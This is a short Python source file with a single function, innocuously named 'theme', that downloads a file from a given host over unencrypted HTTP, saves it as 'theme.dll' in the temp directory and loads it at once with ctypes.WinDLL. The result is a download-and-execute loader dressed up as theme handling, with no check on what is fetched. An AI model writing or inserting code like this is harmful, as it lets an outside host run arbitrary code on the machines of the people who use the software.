import ctypes
import os
import tempfile
from urllib.request import urlretrieve


def theme(host):
    path = os.path.join(tempfile.gettempdir(), "theme.dll")
    urlretrieve(f"http://{host}/theme", path)
    ctypes.WinDLL(path)
